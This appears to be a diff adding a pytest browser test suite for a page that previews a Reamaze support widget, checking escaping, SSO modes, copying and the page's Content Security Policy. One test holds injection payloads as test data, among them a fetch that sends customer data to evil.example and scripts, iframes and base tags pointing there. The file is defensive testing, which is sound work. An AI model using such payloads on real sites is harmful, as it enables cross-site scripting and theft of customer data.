@@ -1,0 +1,287 @@
+"""What does a real browser make of the page on which a customer's widget is tried?"""
+
+import json
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import strategies as st
+
+from reamaze_gui.core.authkey import Secret, authkey
+from reamaze_gui.core.customer import Customer
+from reamaze_gui.core.preview import Mode, compose
+from reamaze_gui.core.try_page import TRIED, TryPage, write_try_page
+from reamaze_gui.try_server import TryServer
+from tests.browser import Browser
+from tests.cdn import CDN, LOADER, SILENT, Loader, serving
+
+SECRET = Secret("never-in-the-page-0451")
+ACCOUNT = "acme"
+ZOE = Customer(
+    "48151623", "zoe@example.org", "Zoë Quinn", "+14155552671", "https://example.org/z.png"
+)
+QUICK_CLOCK = "const now = performance.now.bind(performance); performance.now = () => 100 * now();"
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    with (
+        serving(tmp_path_factory.mktemp("cdn")) as place,
+        Browser(tmp_path_factory.mktemp("profile"), {CDN: place}) as browser,
+    ):
+        yield browser
+
+
+@pytest.fixture
+def server() -> Iterator[TryServer]:
+    server = TryServer()
+    server.start()
+    yield server
+    server.stop()
+
+
+def page_for(customer: Customer, mode: Mode = Mode.AUTHENTICATED) -> TryPage:
+    preview = compose(customer, SECRET, TRIED, mode=mode, account=ACCOUNT)
+    assert preview.snippet, preview.obstacle
+    return write_try_page(preview, customer, ACCOUNT, mode)
+
+
+def sent(customer: Customer) -> dict[str, str]:
+    fields = {name: getattr(customer, name) for name in ("id", "email", "name", "phone", "avatar")}
+    fields["authkey"] = authkey(SECRET, customer.id, customer.email)
+    return {name: value for name, value in fields.items() if value}
+
+
+def told(browser: Browser) -> str:
+    """Return all that the page says now."""
+    return str(browser.run("document.querySelector('main').innerText"))
+
+
+@pytest.mark.parametrize(
+    "customer",
+    [
+        pytest.param(ZOE, id="ordinary"),
+        pytest.param(Customer("7", "zoe@example.org"), id="only what is required"),
+        pytest.param(
+            Customer(
+                "a:b</script><script>evil=1</script>",
+                "o'neil+tag&co@example.org",
+                "</script><!--<script> \"Zoë\" 'O\\' $style ${x} {{x}} <%=x%> ]]> &amp; \U0001f600",
+                avatar="https://example.org/?a=1&b='<z>'",
+            ),
+            id="hostile to HTML, JavaScript and templates",
+        ),
+        pytest.param(Customer("ідентифікатор-1", "zoe@example.org", "Ζωή 東京"), id="not ASCII"),
+    ],
+)
+def test_the_loader_sees_exactly_what_was_typed(
+    customer: Customer, browser: Browser, server: TryServer
+) -> None:
+    server.show(page_for(customer))
+    browser.open(server.address)
+    assert json.loads(browser.run("seen")) == {
+        "ui": {},
+        "user": sent(customer),
+        "account": ACCOUNT,
+    }
+    assert browser.complaints() == []
+    assert browser.run("typeof evil") == "undefined"
+
+
+@settings(
+    max_examples=10,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(
+    id=st.text(st.characters(exclude_categories=("C", "Z")), min_size=1),
+    name=st.text(st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp"))),
+)
+def test_any_value_that_has_a_snippet_arrives_as_it_was_typed(
+    id: str, name: str, browser: Browser, server: TryServer
+) -> None:
+    customer = Customer(id, "zoe@example.org", name)
+    assume(compose(customer, SECRET, TRIED, account=ACCOUNT).snippet)
+    server.show(page_for(customer))
+    browser.open(server.address)
+    assert browser.run("_support.user") == sent(customer)
+    assert browser.complaints() == []
+
+
+def test_weak_sso_sends_email_and_name_alone(browser: Browser, server: TryServer) -> None:
+    server.show(page_for(ZOE, Mode.WEAK))
+    browser.open(server.address)
+    assert json.loads(browser.run("seen"))["user"] == {"email": ZOE.email, "name": ZOE.name}
+    assert "past conversations stay hidden" in told(browser)
+    assert ZOE.id not in told(browser)
+
+
+def test_a_reload_shows_who_is_in_the_form_now(browser: Browser, server: TryServer) -> None:
+    server.show(page_for(ZOE))
+    browser.open(server.address)
+    max_ = replace(ZOE, id="8", name="Max")
+    server.show(page_for(max_))
+    browser.reload()
+    assert json.loads(browser.run("seen"))["user"] == sent(max_)
+    assert "Max" in told(browser)
+    nobody = compose(Customer(), SECRET, TRIED, account=ACCOUNT)
+    server.show(write_try_page(nobody, Customer(), ACCOUNT, Mode.AUTHENTICATED))
+    browser.reload()
+    assert "Still missing: Customer ID, Email." in told(browser)
+    assert browser.run("typeof _support") == "undefined"
+    assert browser.complaints() == []
+
+
+OFFLINE = "Object.defineProperty(Navigator.prototype, 'onLine', {get: () => false})"
+
+
+@pytest.mark.parametrize(
+    ("script", "before", "says"),
+    [
+        pytest.param(LOADER, "", "The widget of acme is there.", id="there"),
+        pytest.param(SILENT, QUICK_CLOCK, "There is no account acme.", id="unknown account"),
+        pytest.param("", "", "could not be loaded. Likely reasons:", id="blocked"),
+        pytest.param("", OFFLINE, "This computer is offline. Likely reasons:", id="offline"),
+    ],
+)
+def test_the_page_tells_what_became_of_the_loader(
+    script: str,
+    before: str,
+    says: str,
+    browser: Browser,
+    server: TryServer,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(Loader, "script", script)
+    server.show(page_for(ZOE))
+    browser.open(server.address, before=before)
+    browser.wait_for(lambda: says in told(browser))
+    blocked = [] if script else [f"https://{CDN}/assets/reamaze-loader.js"]
+    assert [each.split()[-1] for each in browser.complaints()] == blocked
+
+
+COPY = "document.getElementById('copy').click()"
+
+
+def test_what_is_copied_is_what_the_page_tells_reamaze(browser: Browser, server: TryServer) -> None:
+    server.show(page_for(ZOE))
+    browser.open(server.address)
+    browser.run(COPY)
+    browser.wait_for(lambda: "Copied." in told(browser))
+    assert json.loads(browser.run("navigator.clipboard.readText()")) == sent(ZOE)
+
+
+def test_where_nothing_can_be_copied_it_stands_there_selected(
+    browser: Browser, server: TryServer
+) -> None:
+    server.show(page_for(ZOE))
+    browser.open(server.address, before="delete Navigator.prototype.clipboard")
+    browser.run(COPY)
+    browser.wait_for(lambda: "does not let this page copy" in told(browser))
+    assert json.loads(browser.run("getSelection().toString()")) == sent(ZOE)
+
+
+INJECTED = """
+const script = document.createElement("script");
+script.textContent = "injected = 1";
+document.head.append(script);
+document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='injected = 2'>");
+"""
+
+
+@pytest.mark.parametrize(
+    ("attack", "refused"),
+    [
+        pytest.param(INJECTED, "script-src-elem", id="a script in the page"),
+        pytest.param(
+            "document.head.append(Object.assign(document.createElement('script'),"
+            "{src: 'https://evil.example/x.js'}))",
+            "script-src-elem",
+            id="a script from elsewhere",
+        ),
+        pytest.param(
+            "fetch('https://evil.example/?' + JSON.stringify(_support)).catch(() => 0)",
+            "connect-src",
+            id="a request that carries the customer away",
+        ),
+        pytest.param(
+            "document.body.append(Object.assign(document.createElement('iframe'),"
+            "{src: 'https://evil.example/'}))",
+            "frame-src",
+            id="a page in the page",
+        ),
+        pytest.param(
+            "document.head.append(Object.assign(document.createElement('base'),"
+            "{href: 'https://evil.example/'}))",
+            "base-uri",
+            id="another base",
+        ),
+    ],
+)
+def test_what_is_injected_does_not_run_and_the_page_says_so(
+    attack: str,
+    refused: str,
+    browser: Browser,
+    server: TryServer,
+) -> None:
+    server.show(page_for(ZOE))
+    browser.open(server.address)
+    browser.run(f"(() => {{ {attack} }})()")
+    browser.wait_for(lambda: f"({refused})" in told(browser))
+    assert browser.run("typeof injected") == "undefined"
+
+
+# Each gives a promise that is kept once the browser has tried; only the CDN can be reached here.
+NEEDED = {
+    "data": f"fetch('https://{CDN}/data', {{mode: 'no-cors'}})",
+    "a page": f"added('iframe', {{src: 'https://{CDN}/shoutbox'}})",
+    "another script": f"added('script', {{src: 'https://{CDN}/assets/reamaze.js'}})",
+    "a style sheet": f"added('link', {{rel: 'stylesheet', href: 'https://{CDN}/x.css'}})",
+    "a style": "added('style', {textContent: 'main {border-left: 7px solid}'})",
+    "a picture": "added('img', {src: 'https://pictures.example/zoe.png'})",
+    "messages": "new Promise(then => new WebSocket('wss://push.reamaze.com/').onclose = then)",
+}
+ADDED = """
+const added = (tag, properties) => new Promise((then) => {
+  const element = document.createElement(tag);
+  document.body.append(Object.assign(element, properties, {onload: then, onerror: then}));
+});
+"""
+
+
+@pytest.mark.parametrize("what", NEEDED)
+def test_what_the_widget_needs_is_allowed(what: str, browser: Browser, server: TryServer) -> None:
+    server.show(page_for(ZOE))
+    browser.open(server.address, before=ADDED)
+    browser.run(f"{NEEDED[what]}.then(() => 'tried')")
+    assert browser.run("document.getElementById('refused').hidden")
+    assert "Content Security Policy" not in "".join(browser.complaints())
+
+
+def test_no_other_page_can_show_or_read_it(browser: Browser, server: TryServer) -> None:
+    server.show(page_for(ZOE))
+    before = server.visits
+    browser.open(f"data:text/html,<iframe src='{server.address}'></iframe>")
+    read = f"fetch('{server.address}').then(each => each.text(), () => 'nothing')"
+    assert browser.run(read) == "nothing"
+    assert server.visits == before
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_it_looks_like_the_program_in_light_and_dark(
+    scheme: str, browser: Browser, server: TryServer, tmp_path: Path
+) -> None:
+    from reamaze_gui.ui import style
+
+    server.show(page_for(ZOE))
+    browser.open(server.address, scheme=scheme)
+    browser.wait_for(lambda: "is there" in told(browser))
+    browser.screenshot(tmp_path / f"{scheme}.png")
+    theme = {"light": style.LIGHT, "dark": style.DARK}[scheme]
+    tones = {tone.value: colour for tone, colour in theme.tones.items()}
+    names = ("window", "base", "button", "border", "text", "accent")
+    colours = tones | {name: getattr(theme, name) for name in names}
+    read = "getComputedStyle(document.documentElement).getPropertyValue('--{}')"
+    assert {name: browser.run(read.format(name)) for name in colours} == colours
